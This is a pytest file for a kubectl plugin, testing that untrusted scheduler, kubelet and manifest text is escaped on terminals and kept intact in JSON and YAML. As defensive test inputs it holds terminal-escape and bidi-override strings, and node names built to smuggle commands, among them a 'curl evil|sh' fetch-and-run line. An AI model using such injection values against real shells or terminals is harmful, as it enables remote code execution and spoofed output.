"""Untrusted text of a cluster reaches a terminal only escaped, and JSON unchanged."""

from __future__ import annotations

import contextlib
import json
import os
import re
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from tests.controlplane.client import Object
from tests.controlplane.control_plane import ControlPlane
from tests.controlplane.processes import again_if_not_connected
from tests.e2e.plugin import Plugin, Qos, flat
from tests.e2e.space import Space
from tests.kubectl_plugin.running import Ran
from tests.objects import unscheduled_pod

pytestmark = pytest.mark.controlplane

# Moves the cursor and paints, sets the title, the 8-bit form of both, reverses the reading order, hides, breaks lines.
HOSTILE = (
    "no room \x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b2J \x9d0;t\x9c "
    "\u202eesrever\u202c \u2066isolated\u2069 \u200bhidden\u200f \ufeff "
    "line\nbreak\r\u2028\u2029\x0b\x0c\x85 back\x08\x7f tag\U000e0041 soft\xad end"
)
VISIBLE = (
    r"no room \x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b2J \x9d0;t\x9c \u202eesrever\u202c \u2066isolated\u2069 "
    r"\u200bhidden\u200f \ufeff line break\x0d\u2028\u2029\x0b\x0c\x85 back\x08\x7f tag\U000e0041 soft\xad end"
)
OURS = re.compile("\x1b\\[(?:0|1|31|32|33)m")
"""The colours that the plugin itself prints."""


@pytest.fixture
def pending(control_plane: ControlPlane, namespace: str) -> str:
    """A namespace with a pod that has hostile text from its scheduler."""
    pod = control_plane.api.create(unscheduled_pod(namespace))
    said = {"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": HOSTILE}
    control_plane.set_pod_status(pod, {"conditions": [said]})
    return namespace


@pytest.fixture
def failed(control_plane: ControlPlane, namespace: str, make_node: Callable[..., Object]) -> str:
    """A namespace with a pod that has hostile text from its kubelet."""
    manifest = unscheduled_pod(namespace, nodeName=make_node()["metadata"]["name"])
    manifest["metadata"]["annotations"] = {"kubernetes.io/config.source": HOSTILE}
    pod = control_plane.api.create(manifest)
    control_plane.set_pod_status(pod, {"phase": "Failed", "reason": f"Evicted{HOSTILE}", "message": HOSTILE})
    return namespace


def test_words_of_the_scheduler(qos: Qos, pending: str) -> None:
    ran = qos("pod/web", "-n", pending)

    assert ran.code == 0
    assert f"Its scheduler said: {VISIBLE}" in flat(ran.out)
    assert_harmless(ran.out)


def test_words_of_the_kubelet(qos: Qos, failed: str) -> None:
    ran = qos("pod/web", "-n", failed, "-o", "wide")

    assert ran.code == 0
    assert f"Failed (Evicted{VISIBLE}): {VISIBLE}" in flat(ran.out)
    assert_harmless(ran.out)


def test_words_of_an_eviction(space: Space) -> None:
    pod = space.pod(nodeName=space.node())
    why = {"type": "DisruptionTarget", "status": "True", "reason": "EvictionByEvictionAPI", "message": HOSTILE}
    # Without a time the condition counts as stale, and its controller removes it.
    why["lastTransitionTime"] = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    space.plane.set_pod_status(pod, {"conditions": [why]})
    space.plane.kubectl("delete", "pod", "web", "-n", space.name, "--wait=false")

    ran = space.qos("pod/web", "-n", space.name)

    assert f"Why: {VISIBLE}" in flat(ran.out)
    assert_harmless(ran.out)


def test_on_a_terminal_in_colour(kubectl_qos: Plugin, pending: str) -> None:
    code, printed = on_a_terminal(kubectl_qos, "pod/web", "-n", pending)

    assert code == 0
    assert OURS.search(printed)
    plain = OURS.sub("", printed)
    assert f"Its scheduler said: {VISIBLE}" in flat(plain)
    assert_harmless(plain.replace("\r\n", "\n"))


@pytest.mark.parametrize(("flags", "env"), [(["--no-color"], {}), ([], {"NO_COLOR": "1"}), ([], {"TERM": "dumb"})])
def test_on_a_terminal_without_colour(kubectl_qos: Plugin, pending: str, flags: list[str], env: dict[str, str]) -> None:
    code, printed = on_a_terminal(kubectl_qos, "pod/web", "-n", pending, *flags, env=env)

    assert code == 0
    assert_harmless(printed.replace("\r\n", "\n"))


def test_json_is_valid_and_whole(qos: Qos, pending: str) -> None:
    ran = qos("pod/web", "-n", pending, "-o", "json")

    assert ran.out.isascii()
    assert_harmless(ran.out)
    assert json.loads(ran.out)["status"]["unschedulable"] == HOSTILE


def test_yaml_is_valid_and_whole(qos: Qos, failed: str) -> None:
    ran = qos("pod/web", "-n", failed, "-o", "yaml")

    assert ran.out.isascii()
    assert_harmless(ran.out)
    status = yaml.safe_load(ran.out)["status"]
    assert [status["reason"], status["message"]] == [f"Evicted{HOSTILE}", HOSTILE]


def test_words_of_a_manifest(space: Space) -> None:
    manifest = unscheduled_pod(space.name, f"web{HOSTILE}", priorityClassName=HOSTILE)

    for output in ("table", "wide", "name"):
        ran = space.qos("-f", "-", "-o", output, stdin=json.dumps(manifest))
        # The class does not exist: the pod is rejected, and still explained.
        assert ran.code == 6
        assert f"{'pod/' if output == 'name' else 'Pod '}web{VISIBLE}" in flat(ran.out)
        assert_harmless(ran.out)


@pytest.mark.parametrize("word", ["pod/web\x1b[31m", "pod/web\u202e", "web\x1b[31m", "pod/\x9b31m"])
def test_words_of_the_command_line(kubectl_qos: Plugin, pending: str, word: str) -> None:
    """As from a script with untrusted names."""
    ran = kubectl_qos(word, "-n", pending)

    assert ran.code in {2, 3}
    assert_harmless(ran.err)


@pytest.mark.parametrize("node", ["x/;curl evil|sh #", "--all", "n1,metadata.namespace=evil", "evil\x1b[2J%\n"])
def test_name_of_a_node_is_in_no_command(
    control_plane: ControlPlane, tmp_path: Path, namespace: str, node: str
) -> None:
    """``pods/binding`` accepts any name. The plugin treats that Node as one that does not exist."""
    pod = control_plane.api.create(unscheduled_pod(namespace, schedulerName="no-scheduler"))
    control_plane.bind(pod, node)
    runtime = tmp_path / "run"
    runtime.mkdir()
    for words, code in (
        (("explain", "pod/web"), 0),
        (("explain", "pod/web", "--timeline"), 0),
        (("explain", "pods", "-o", "wide"), 0),
        (("node", f"node/{node}"), 3),
        (("died", "pod/web"), 0),
        (("delete", "pod/web", "--grace-period=0"), 3),
        (("report",), 0),
        (("partitions",), 0),
    ):
        place = () if words[0] in {"node", "partitions"} else ("-n", namespace)
        command, *arguments = words
        ran = Plugin(control_plane, runtime, command=command)(*arguments, *place)
        assert ran.code == code, (words, ran)
        assert_harmless(ran.out + ran.err)
        assert not [text for text in re.findall("kubectl .*", ran.out) if "evil" in text or "--all" in text]


def on_a_terminal(kubectl_qos: Plugin, *arguments: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    """Exit code, and the output of a terminal."""
    ran = again_if_not_connected(lambda: _on_a_terminal(kubectl_qos, *arguments, env=env), lambda ran: ran.err)
    assert ran.err == ""
    return ran.code, ran.out


def _on_a_terminal(kubectl_qos: Plugin, *arguments: str, env: dict[str, str] | None) -> Ran:
    keyboard, terminal = os.openpty()
    with kubectl_qos.start(*arguments, stdout=terminal, env=env) as plugin:
        os.close(terminal)
        printed = b""
        # Linux reports the end of a terminal's other side as an input/output error.
        with contextlib.suppress(OSError):
            while chunk := os.read(keyboard, 65536):
                printed += chunk
        _, err = plugin.communicate(timeout=60)
    os.close(keyboard)
    return Ran(plugin.returncode, printed.decode(), err.decode())


def assert_harmless(text: str) -> None:
    """Nothing but printable characters and line ends."""
    odd = {char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"}}
    assert not odd
